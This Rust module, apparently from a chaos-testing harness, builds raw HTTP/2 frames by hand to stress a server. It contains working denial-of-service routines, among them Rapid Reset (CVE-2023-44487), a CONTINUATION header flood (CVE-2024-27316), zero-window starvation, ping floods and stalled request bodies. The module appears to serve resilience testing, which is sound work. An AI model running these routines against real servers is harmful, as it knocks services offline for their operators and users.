//! HTTP/2 as nobody should speak it (RFC 9113): frames put together by hand.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;
use wire::Duplex;

use super::drain;
use crate::chaos::instance::Over;
use crate::chaos::modes::writes::MAPS;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames that are to be sent.
pub struct Frames(Vec<u8>);

impl Frames {
    fn new() -> Frames {
        Frames(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec())
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, content: &[u8]) {
        self.0.extend_from_slice(&(content.len() as u32).to_be_bytes()[1..]);
        self.0.extend_from_slice(&[kind, flags]);
        self.0.extend_from_slice(&stream.to_be_bytes());
        self.0.extend_from_slice(content);
    }

    fn settings(&mut self, settings: &[(u16, u32)]) {
        let content: Vec<u8> = settings
            .iter()
            .flat_map(|(name, value)| [name.to_be_bytes().to_vec(), value.to_be_bytes().to_vec()].concat())
            .collect();
        self.frame(SETTINGS, 0, 0, &content);
    }

    /// What is no HTTP/2 at all.
    pub fn noise() -> Vec<u8> {
        let mut frames = Frames::new();
        frames.settings(&[]);
        frames.frame(0xff, 0xff, u32::MAX >> 1, &[0xaa; 1000]);
        frames.frame(DATA, END_STREAM, 7, b"of no stream");
        frames.0.extend((0..=255).cycle().take(5000));
        frames.0
    }

    async fn send(&mut self, stream: &mut Duplex) -> std::io::Result<()> {
        stream.write_all(&self.0).await?;
        stream.flush().await?;
        self.0.clear();
        Ok(())
    }
}

/// A request's head; field names of the static table, values as they are (RFC 7541, 6.2.2).
fn head(method: u8, path: &str) -> Vec<u8> {
    // `:method`, `:scheme: https`
    let mut block = vec![method, 0x87];
    for (index, value) in [(4, path), (1, "x")] {
        block.extend([index, value.len() as u8]);
        block.extend(value.as_bytes());
    }
    block
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// CVE-2023-44487: streams are opened and reset at once, as fast as can be.
pub async fn reset(mut stream: Duplex, over: &Over) -> std::io::Result<()> {
    let mut frames = Frames::new();
    frames.settings(&[]);
    let mut number = 1;
    while !over.is_set() {
        for _ in 0..100 {
            frames.frame(HEADERS, END_HEADERS | END_STREAM, number, &head(GET, MAPS));
            frames.frame(RST_STREAM, 0, number, &8u32.to_be_bytes());
            number += 2;
        }
        frames.send(&mut stream).await?;
        drain(&mut stream).await?;
    }
    Ok(())
}

/// Lists and watches whose answers may not be sent: no window is ever opened.
pub async fn no_window(mut stream: Duplex, over: &Over) -> std::io::Result<()> {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    let mut frames = Frames::new();
    frames.settings(&[(INITIAL_WINDOW_SIZE, 0)]);
    for number in 0..100u32 {
        let path = if number % 2 == 0 { MAPS.to_owned() } else { format!("{MAPS}?watch=1") };
        frames.frame(HEADERS, END_HEADERS | END_STREAM, number * 2 + 1, &head(GET, &path));
    }
    frames.send(&mut stream).await?;
    wait(over).await;
    Ok(())
}

/// Pings and settings that have to be answered; the answers are never read.
pub async fn pings(mut stream: Duplex, over: &Over) -> std::io::Result<()> {
    let mut frames = Frames::new();
    frames.settings(&[]);
    while !over.is_set() {
        for _ in 0..500 {
            frames.frame(PING, 0, 0, b"pingping");
            frames.settings(&[]);
        }
        frames.send(&mut stream).await?;
    }
    Ok(())
}

/// CVE-2024-27316: a head that goes on and on.
pub async fn endless_head(mut stream: Duplex, over: &Over) -> std::io::Result<()> {
    let mut frames = Frames::new();
    frames.settings(&[]);
    frames.frame(HEADERS, END_STREAM, 1, &head(GET, MAPS));
    while !over.is_set() {
        // A field without a place in the table, `x: xxx…`.
        let mut field = vec![0, 1, b'x', 100];
        field.extend([b'x'; 100]);
        frames.frame(CONTINUATION, 0, 1, &field.repeat(100));
        frames.send(&mut stream).await?;
        drain(&mut stream).await?;
    }
    Ok(())
}

/// Many bodies on one connection, none of which comes to its end.
pub async fn half_bodies(mut stream: Duplex, over: &Over) -> std::io::Result<()> {
    let mut frames = Frames::new();
    frames.settings(&[]);
    for number in 0..100u32 {
        frames.frame(HEADERS, END_HEADERS, number * 2 + 1, &head(POST, MAPS));
        frames.frame(DATA, 0, number * 2 + 1, &[b' '; 9000]);
    }
    frames.send(&mut stream).await?;
    wait(over).await;
    Ok(())
}

async fn wait(over: &Over) {
    while !over.is_set() {
        sleep(Duration::from_millis(200)).await;
    }
}
